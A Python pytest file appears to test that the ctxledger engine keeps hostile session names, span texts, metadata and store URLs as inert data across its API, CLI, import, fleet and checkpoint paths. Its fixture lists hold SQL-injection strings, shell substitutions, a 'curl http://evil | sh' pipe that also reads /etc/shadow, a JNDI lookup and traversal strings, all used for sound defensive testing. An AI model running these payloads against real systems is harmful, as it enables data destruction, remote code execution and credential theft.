"""Session names, span text, meta, labels and reasons are data, never code or SQL: injection attempts
go in through every entry point (API, CLI, import, fleet, checkpoints, the store URL) and come back
out unchanged, with every table intact and no command run."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import POSTGRES_DSN, drop_schema, postgres_url
from engine import EstimateCounter, InvalidInputError, Ledger, StorageError
from engine.cli import main

CANARY = Path("/tmp/ctxledger-injection-canary")

NAMES = [
    "x'; DROP TABLE stored_events;--",
    'Robert"); DROP TABLE ctxledger_events;--',
    "agent' OR '1'='1",
    "$(touch /tmp/ctxledger-injection-canary)",
    "`touch /tmp/ctxledger-injection-canary`",
    "%s%s%s%n{0}{__class__}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "'; SELECT pg_sleep(30);--",
    "${jndi:ldap://evil/a}",
    "名前 🚀 \\ \"quoted\"",
]

TEXTS = NAMES + [
    "'); DELETE FROM fleet_sessions; --",
    "| cat /etc/shadow && curl http://evil | sh; touch /tmp/ctxledger-injection-canary",
    "\x00'; DROP TABLE stored_events; --\x00",
    "line one\r\n.\r\nQUIT\r\n",
    "E'\\x27'; COPY stored_events TO PROGRAM 'touch /tmp/ctxledger-injection-canary';",
]

META = {
    "key'; DROP TABLE stored_events;--": "v",
    "k": "'; DROP TABLE ctxledger_events;--",
    "$(id)": ["`touch /tmp/ctxledger-injection-canary`", {"nested": "' OR 1=1; --", "n": 1}],
}


@pytest.fixture(autouse=True)
def no_canary():
    CANARY.unlink(missing_ok=True)
    yield
    assert not CANARY.exists(), "a command was executed"


def table_names(url: str) -> set[str]:
    if url.startswith("sqlite"):
        con = sqlite3.connect(url[len("sqlite:///") :])
        try:
            return {r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        finally:
            con.close()
    import psycopg

    with psycopg.connect(POSTGRES_DSN) as con:
        schema = url.rsplit("schema=", 1)[1]
        return {r[0] for r in con.execute("SELECT tablename FROM pg_tables WHERE schemaname = %s", (schema,))}


def write_hostile(led: Ledger) -> None:
    for i, name in enumerate(NAMES):
        s = led.create_session(name, by=name, reason=name)
        spans = [s.observe(t, meta=META, by=name) for t in TEXTS]
        s.rewrite([spans[0].id, spans[1].id], TEXTS[i % len(TEXTS)], reason=TEXTS[-1], meta=META)
        s.prune(spans[2].id, reason=name)
        s.mark(name[:200])


def check_hostile(led: Ledger) -> None:
    assert sorted(i.name for i in led.sessions()) == sorted(NAMES)
    for i, name in enumerate(NAMES):
        s = led.session(name)
        assert s.name == name and s.verify().ok
        assert [s.original(f"o{k + 1}").text for k in range(len(TEXTS))] == TEXTS
        assert all(s.original(f"o{k + 1}").meta == META for k in range(len(TEXTS)))
        assert s.spans()[0].text == TEXTS[i % len(TEXTS)]
        assert s.marks() == {name[:200]: s.position}
        assert s.event(1).by == name and s.event(1).reason == name


def test_api_round_trips_hostile_strings_as_data(url):
    led = Ledger.open(url, token_counter=EstimateCounter())
    tables = table_names(url)
    write_hostile(led)
    assert table_names(url) == tables
    check_hostile(Ledger.open(url, token_counter=EstimateCounter()))
    led.close()


def test_import_round_trips_hostile_strings_as_data(url, tmp_path):
    source = Ledger.open("memory://", token_counter=EstimateCounter())
    write_hostile(source)
    led = Ledger.open(url, token_counter=EstimateCounter())
    tables = table_names(url)
    for info in source.sessions():
        path = tmp_path / "x.jsonl"
        source.session(info.id).export(path)
        res = CliRunner().invoke(main, ["--db", url, "import", str(path)])
        assert res.exit_code == 0, res.output
    assert table_names(url) == tables
    check_hostile(led)
    led.close()


def test_cli_takes_hostile_arguments_as_data(url, tmp_path):
    led = Ledger.open(url, token_counter=EstimateCounter())
    write_hostile(led)
    led.close()
    tables = table_names(url)
    runner = CliRunner()
    for name in NAMES[::2]:  # each CLI call opens the store afresh: half the names keep it quick
        label = "m'; DROP TABLE stored_events;--"
        res = runner.invoke(main, ["--db", url, "mark", name, label, "--by", name])
        assert res.exit_code == 0, res.output
        res = runner.invoke(main, ["--db", url, "log", name, "--json"])
        assert res.exit_code == 0
        events = [json.loads(line) for line in res.output.splitlines()]
        assert events[0]["name"] == name and events[-1]["label"] == label and events[-1]["by"] == name
        assert [e["text"] for e in events if e["type"] == "Observed"] == TEXTS
        res = runner.invoke(main, ["--db", url, "show", name, "--json", "--at", label])
        assert res.exit_code == 0 and json.loads(res.output)["session"] == name
        res = runner.invoke(main, ["--db", url, "verify", name])
        assert res.exit_code == 0 and res.output.startswith(f"{name}: OK")
    res = runner.invoke(main, ["--db", url, "sessions", "--json"])
    assert sorted(d["name"] for d in json.loads(res.output)) == sorted(NAMES)
    # an unknown hostile name is an unknown session, nothing more
    res = runner.invoke(main, ["--db", url, "log", "nobody'; DROP TABLE stored_events;--"])
    assert res.exit_code == 2 and "no session named" in res.output
    assert table_names(url) == tables


def test_fleet_and_checkpoints_take_hostile_names_as_data(url, tmp_path):
    from engine.checkpoint import check_session, generate_keypair, read_checkpoints

    led = Ledger.open(url, token_counter=EstimateCounter())
    write_hostile(led)
    runner = CliRunner()
    res = runner.invoke(main, ["--db", url, "fleet", "--json"])
    assert res.exit_code == 1, res.output  # it lists drifted sessions: exit 1, like audit
    assert sorted(d["name"] for d in json.loads(res.output)) == sorted(NAMES)
    res = runner.invoke(main, ["--db", url, "fleet", "--since", "today'; DROP TABLE fleet_sessions;--"])
    assert res.exit_code == 2
    tables = table_names(url)
    assert {"fleet_sessions", "fleet_tracking"} <= tables
    priv, pub, _ = generate_keypair(tmp_path / "k.pem")
    cps = tmp_path / "cps.jsonl"
    res = runner.invoke(main, ["--db", url, "checkpoint", "--all", "--key", str(priv), "-o", str(cps)])
    assert res.exit_code == 0, res.output
    signed = read_checkpoints(cps)
    assert sorted(cp.session for cp in signed) == sorted(NAMES)
    for name in NAMES:
        assert check_session(led.session(name), signed, pub).ok
    res = runner.invoke(main, ["--db", url, "verify", "--all", "--checkpoint", str(cps), "--public-key", str(pub)])
    assert res.exit_code == 0, res.output
    assert table_names(url) == tables
    led.close()


def test_store_url_parameters_are_not_sql(tmp_path):
    if not POSTGRES_DSN:
        pytest.skip("CTXLEDGER_TEST_POSTGRES is not set")
    import psycopg

    with psycopg.connect(POSTGRES_DSN, autocommit=True) as con:
        con.execute("CREATE TABLE IF NOT EXISTS public.injection_canary (x int)")
    try:
        for schema in ['public"; DROP TABLE public.injection_canary; --', "x'; DROP TABLE public.injection_canary; --"]:
            with pytest.raises(StorageError):
                Ledger.open(f"{POSTGRES_DSN}?schema={schema}")
        with psycopg.connect(POSTGRES_DSN) as con:
            assert con.execute("SELECT to_regclass('public.injection_canary')").fetchone()[0] is not None
    finally:
        with psycopg.connect(POSTGRES_DSN, autocommit=True) as con:
            con.execute("DROP TABLE IF EXISTS public.injection_canary")


def test_sqlite_paths_are_paths(tmp_path):
    """A file name full of SQL and shell is just a file name."""
    name = "x'; DROP TABLE stored_events;-- $(touch ctxledger-injection-canary).db"
    with Ledger.open(f"sqlite:///{tmp_path / name}", token_counter=EstimateCounter()) as led:
        led.create_session("s").observe("y")
    assert (tmp_path / name).exists()
    with Ledger.open(f"sqlite:///{tmp_path / name}") as led:
        assert led.session("s").spans()[0].text == "y"


def test_control_characters_in_names_are_refused_not_interpreted(url):
    led = Ledger.open(url, token_counter=EstimateCounter())
    for name in ["a\nb", "\x1b]0;pwned\x07", "tab\there", "nul\x00"]:
        with pytest.raises(InvalidInputError):
            led.create_session(name)
    assert led.sessions() == []
    led.close()
